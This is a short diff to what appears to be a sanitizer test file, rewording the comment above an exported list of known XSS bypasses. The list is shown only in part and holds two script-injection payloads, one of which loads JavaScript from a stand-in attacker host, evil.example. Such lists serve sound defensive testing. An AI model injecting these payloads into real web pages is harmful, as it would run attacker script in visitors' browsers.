@@ -1,4 +1,4 @@
-/** Known ways around sanitisers; each would call `alert(1)` in a page that let it through. */
+/** Known bypasses of sanitizers; each calls `alert(1)` in a page that does not remove it. */
 export const BYPASSES = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
